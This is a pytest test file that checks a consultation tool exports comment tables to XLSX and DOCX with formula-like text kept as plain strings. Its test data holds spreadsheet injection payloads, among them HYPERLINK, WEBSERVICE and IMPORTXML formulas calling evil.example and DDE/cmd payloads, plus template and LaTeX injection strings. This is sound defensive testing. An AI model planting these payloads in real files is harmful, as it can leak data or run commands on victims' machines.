"""Whatever a spreadsheet might take for a formula is a text in every table that leaves."""

import io
import zipfile

import openpyxl
import pytest
from lxml import etree

from consultation.exports import FORMATS
from consultation.exports.comment_table import render_table_docx, render_table_xlsx
from consultation.exports.xlsx import render_xlsx
from consultation.imports.comment_table import read_comment_table
from consultation.queries.comment_table import TableRow
from consultation.views.stakeholder.table import MEDIA_TYPES
from tests.exports import packs

FORMULAS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "==1", "=", " =1+1", "\t=1+1", "\n=1+1", "one\n=1+1",
    "'=1+1",
    '"=1+1', '"=1+1"', ";=1+1", ",=1+1", "\uff1d1+1", "+1+1", "+49 30 1234", "-1+1", "-5", "- item",
    "--1", "@SUM(A1)", "@user", "\uff0b1", "\uff0d1", "\uff201", "{=1+1}", "%0A=1+1", "1-2", "1/2",
    "00123", "1e5", "TRUE", "#REF!", "12345678901234567890", "2027-04-12",
)  # fmt: skip


def cells(raw: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_there_are_thirty_of_them():
    assert len(set(FORMULAS)) == len(FORMULAS) >= 30


def test_the_plenary_workbook_holds_them_as_texts():
    """trust.md 43 and 44."""
    themes = tuple(packs.theme(text, quotes=(packs.quote(text),)) for text in FORMULAS)
    found = cells(render_xlsx(packs.pack(packs.question(themes=themes))))
    assert {cell.data_type for cell in found} <= {"s", "n"}
    assert [cell for cell in found if cell.hyperlink] == []
    assert {cell.value for cell in found} >= set(FORMULAS)


@pytest.mark.parametrize("form", ["xlsx", "docx"])
def test_the_comment_table_holds_them_as_texts_and_gives_them_back(form):
    """trust.md 43 to 45."""
    rows = [
        TableRow(comment=text, proposed=text, row_id=f"question|Q{number}|1|0")
        for number, text in enumerate(FORMULAS)
    ]
    raw = render_table_xlsx(rows) if form == "xlsx" else render_table_docx(rows, title="=1+1")
    if form == "xlsx":
        assert {cell.data_type for cell in cells(raw) if cell.value is not None} == {"s"}
        assert [cell for cell in cells(raw) if cell.hyperlink] == []
    back = read_comment_table(raw, name=f"table.{form}")
    assert [(filled.row.comment, filled.row.proposed) for filled in back] == [
        (text, text) for text in FORMULAS
    ]


def test_a_table_of_five_thousand_rows_leaves_whole():
    """trust.md 45."""
    odd = '<font color="red">{{7*7}}</font> \\input{secret} '
    rows = [TableRow(comment=f"{odd}{n}", row_id=f"question|Q{n}|1|0") for n in range(5_000)]
    raw = render_table_docx(rows, title="Long")
    with zipfile.ZipFile(io.BytesIO(raw)) as document:
        tree = etree.fromstring(document.read("word/document.xml"))
    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    found = ["".join(row.itertext(f"{word}t")) for row in tree.iter(f"{word}tr")]
    assert [row for row in found if odd in row] == found[-5_000:]
    assert all(f"{odd}{n}" in row for n, row in enumerate(found[-5_000:]))


def test_tables_leave_in_no_form_but_those_looked_at_here():
    """trust.md 43 and 44: no CSV and no ODS leaves, and one that did would be seen here."""
    assert set(FORMATS) == {"docx", "xlsx", "json"}
    assert set(MEDIA_TYPES) == {"xlsx", "docx"}
